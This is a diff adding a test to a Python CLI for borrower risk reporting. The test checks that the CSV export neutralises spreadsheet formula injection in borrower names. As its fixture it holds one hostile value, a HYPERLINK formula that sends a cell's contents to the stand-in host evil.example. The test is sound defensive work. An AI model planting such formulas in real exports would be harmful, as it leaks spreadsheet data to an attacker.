@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import shutil
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -108,3 +110,26 @@ def test_help_is_chinese_first_with_an_example() -> None:
     for command in ("return-flow", "misuse", "batch"):
         out = runner.invoke(app, ["risk", command, "--help"]).output
         assert "Example: jinyu risk" in out
+
+
+def test_batch_csv_neutralises_formula_names(
+    store: tuple[sessionmaker[Session], str], tmp_path: Path
+) -> None:
+    """A borrower registered as `=HYPERLINK(...)` is written as text, not as a formula a spreadsheet runs."""
+    rows = golden_rows()
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    rows["enterprises"] = [
+        {**e, "name": hostile} if e["name"] == "重庆借款科技有限公司" else e for e in rows["enterprises"]
+    ]
+    shutil.rmtree(tmp_path / "lake")
+    write(Lake(tmp_path / "lake"), rows)
+    target = tmp_path / "batch.csv"
+    code, out = _run(
+        "batch", "--from", "2024-03-01", "--to", "2024-03-31", "--as-user", "hq_risk", "--password-stdin",
+        "--csv", str(target), "--all",
+    )  # fmt: skip
+    assert code == 0, out
+    with target.open(encoding="utf-8", newline="") as fh:
+        names = [r["borrower_name"] for r in csv.DictReader(fh)]
+    assert "'" + hostile in names
+    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
